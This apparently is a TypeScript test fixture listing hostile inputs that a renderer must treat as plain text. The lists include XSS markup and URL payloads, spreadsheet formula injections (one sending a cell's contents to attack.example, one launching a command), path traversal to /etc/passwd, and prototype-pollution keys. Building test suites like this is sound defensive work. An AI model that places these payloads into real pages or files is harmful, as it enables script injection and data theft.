// Strings that somebody might write into a file to harm whoever opens it. A script that runs sets `window.__ran`; a request
// that leaves goes to attack.example. Every one of them is to be text, or to be refused in words.

const RUN = "window.__ran=1";
const HOST = "attack.example";

const markup = [
	`<script>${RUN}</script>`,
	`</script><script>${RUN}</script>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<img src=x onerror="${RUN}">`,
	`"><img src=x onerror=${RUN}>`,
	`'><svg onload=${RUN}>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
	`<iframe src="https://${HOST}/frame" srcdoc="<script>parent.__ran=1</script>"></iframe>`,
	`<object data="https://${HOST}/object"></object><embed src="https://${HOST}/embed">`,
	`<link rel=stylesheet href=https://${HOST}/style.css><base href=https://${HOST}/>`,
	`<meta http-equiv=refresh content="0;url=https://${HOST}/refresh">`,
	`<style>@import "https://${HOST}/import.css"; body { display: none }</style>`,
	`<form action=https://${HOST}/form><button formaction=javascript:${RUN}>x`,
	`<details open ontoggle=${RUN}><summary>x</summary>`,
	`<math><mtext></p><img src=x onerror=${RUN}></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<div id=page><div id=trustedTypes><a id=document name=body>`,
	`<template shadowrootmode=open><script>${RUN}</script></template>`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`&#60;img src=x onerror=${RUN}&#62;`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<![CDATA[<img src=x onerror=${RUN}>]]>`,
	`]]><script>${RUN}</script><![CDATA[`,
	`{{constructor.constructor('${RUN}')()}}`,
	`\${${RUN}}`,
	`\`+(${RUN})+\``,
	`";${RUN};//`,
	`';${RUN};//`,
	`</textarea></title></style><img src=x onerror=${RUN}>`,
	`style="background:url(https://${HOST}/b.png)"`,
	`url(https://${HOST}/b.png)`,
	`red; background-image: url("https://${HOST}/c.png")`,
	`expression(${RUN})`,
	`[[https://${HOST}/|<img src=x onerror=${RUN}>]] {{https://${HOST}/i.png}} {{{https://${HOST}/f}}}`,
	`[x](javascript:${RUN}) ![x](https://${HOST}/m.png)`,
	`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "https://${HOST}/x">]><a>&x;</a>`,
];

const addresses = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	` \t\njavascript:${RUN}`,
	`java\nscript:${RUN}`,
	`java\u0000script:${RUN}`,
	`\u0001javascript:${RUN}`,
	`javascript&colon;${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/javascript,${RUN}`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
	`vbscript:${RUN}`,
	"blob:https://attack.example/1",
	"file:///etc/passwd",
	`//${HOST}/no-protocol`,
	`https://good.example@${HOST}/`,
	`https:${HOST}`,
	`https://${HOST}/"onmouseover="${RUN}`,
	`https://${HOST}/\u202egpj.exe`,
	`http://[::1`,
	`mailto:a@${HOST}?body=x`,
];

const letters = [
	"\u202eelpmis si siht\u202c",
	"left \u202e never closed",
	"\u2069\u2069\u202e out of its isolate",
	"\u2066\u2067\u2068 opened three times",
	"\u202a\u202b\u202d embedded",
	"مرحبا بالعالم 123 abc",
	"שלום (עולם) [1]",
	"\u200b\u200c\u200d\u2060\ufeffzero\u200bwidth",
	"\u0000NUL\u0000 inside",
	"\u0007\u0008\u001b[31m control \u009b",
	"\ud800 alone",
	"\udc00\ud800 turned",
	"Z\u0351\u0326\u0360\u035d\u0348\u0339\u0317\u0310\u031a\u0346\u0303\u0311\u0350a\u0322\u0327\u031e\u0333\u0353\u0306\u0300\u0352".repeat(
		4,
	),
	"\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(40),
	"\u2028line\u2029paragraph",
	"W".repeat(280),
	`${"\u0645".repeat(140)}W`,
	"ﷺ".repeat(80),
	"\n".repeat(200),
	"\\\\'\"\\u0022%22%3Cscript%3E",
];

const cells = [
	`=HYPERLINK("https://${HOST}/?"&A1,"x")`,
	"=cmd|' /C calc'!A0",
	"+1+1",
	"@SUM(1)",
	"-2+3",
	'=IMPORTXML("https://attack.example","//a")',
	'"unclosed',
	'a"b""c',
	";\t|,",
];

const paths = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a", "a/../../b", "con", "./geo"];

/** Names that every object has: as ids, as keys, as names of columns. */
export const NAMES = [
	"__proto__",
	"constructor",
	"prototype",
	"toString",
	"valueOf",
	"hasOwnProperty",
	"__defineGetter__",
	"then",
	"toJSON",
	"length",
	"0",
	"-1",
	"",
	"null",
	"undefined",
];

/** Numbers that JSON, or a cell, can write and hardly anything can draw. */
export const NUMBERS = [
	"1e999",
	"-1e999",
	"1e308",
	"-0",
	"1e-400",
	"9007199254740993",
	"NaN",
	"Infinity",
	"0x10",
	"1_000",
	"٣٫٥",
	"1e",
	"90.0000001",
];

/** All that is tried takes minutes: without ATTACKS=all each test tries a part of it. */
export const tryAll = process.env.ATTACKS === "all";

/**
 * Which part that is. It changes from day to day, so that successive runs cover all inputs; ATTACKS_TURN=NUMBER repeats
 * a run, which prints its number.
 */
export const turn = Number(process.env.ATTACKS_TURN ?? Math.floor(Date.now() / 86_400_000));

export const ATTACKS: readonly string[] = [
	...markup,
	...addresses,
	...letters,
	...cells,
	...paths,
	...NAMES.filter(Boolean),
	...NUMBERS,
];

/** A megabyte in one word. */
export const ENORMOUS = "<b>".repeat(350_000);

/** Half a pair, which UTF-8 cannot write, becomes the sign for what is no letter. */
export const wellFormed = (text: string): string =>
	text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");

/** One in so many of a list, from one turn to the next another part; all of them with ATTACKS=all. */
export function share<Item>(items: readonly Item[], stride: number): readonly Item[] {
	return tryAll ? items : items.filter((_, index) => (index + turn) % stride === 0);
}
